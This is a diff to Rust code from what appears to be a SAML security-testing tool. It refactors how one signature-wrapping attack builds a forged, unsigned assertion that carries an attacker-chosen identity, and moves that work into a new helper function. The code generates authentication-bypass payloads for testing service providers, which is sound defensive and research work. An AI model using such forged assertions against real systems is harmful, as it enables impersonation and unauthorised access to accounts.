@@ -512,20 +512,7 @@ impl Attack {
             MultipleAssertionsFirstUnsigned => {
                 spec.sign = SignMode::Assertion;
                 let mut root = xml::parse(&sign(&spec, ctx.trusted)?).map_err(rewrite)?;
-                let mut evil_spec = spec.clone();
-                evil_spec.assertion_id = evil_assertion_id.clone();
-                make_spec_evil(&mut evil_spec, uid, forged);
-                // Parse the evil assertion inside a wrapper that declares what the Response declares (the plain style's `saml:` prefix).
-                let wrapper = format!(
-                    "<w xmlns:saml=\"{NS_ASSERTION}\">{}</w>",
-                    assertion_xml(&evil_spec, None)
-                );
-                let evil = xml::parse(&wrapper)
-                    .map_err(rewrite)?
-                    .elements()
-                    .next()
-                    .cloned()
-                    .ok_or_else(|| shape(name, "evil assertion did not parse"))?;
+                let (evil, _) = forged_assertion(&spec, ctx, name)?;
                 let at = root
                     .child_index(NS_ASSERTION, "Assertion")
                     .ok_or_else(|| shape(name, "no assertion"))?;
@@ -712,6 +699,31 @@ fn shape(attack: &'static str, detail: &str) -> AttackError {
         attack,
         detail: detail.to_owned(),
     }
+}
+
+/// An unsigned assertion with the forged identity and the id `_evil<genuine id>`, parsed
+/// inside a wrapper that declares what the Response declares (the plain style's `saml:`
+/// prefix); also the wrapper, whose namespaces the assertion's serialisation needs.
+fn forged_assertion(
+    spec: &ResponseSpec,
+    ctx: &AttackContext<'_>,
+    attack: &'static str,
+) -> Result<(Element, Element), AttackError> {
+    let mut evil_spec = spec.clone();
+    evil_spec.assertion_id = format!("{EVIL_ID_PREFIX}{}", spec.assertion_id);
+    make_spec_evil(&mut evil_spec, ctx.uid_attribute, ctx.forged_identity());
+    let wrapper = format!(
+        "<w xmlns:saml=\"{NS_ASSERTION}\">{}</w>",
+        assertion_xml(&evil_spec, None)
+    );
+    let rewrite = |source| AttackError::Rewrite { attack, source };
+    let wrapper = xml::parse(&wrapper).map_err(rewrite)?;
+    let evil = wrapper
+        .elements()
+        .next()
+        .cloned()
+        .ok_or_else(|| shape(attack, "forged assertion did not parse"))?;
+    Ok((evil, wrapper))
 }
 
 /// The evil identity in a spec: NameID and every uid-bearing attribute.
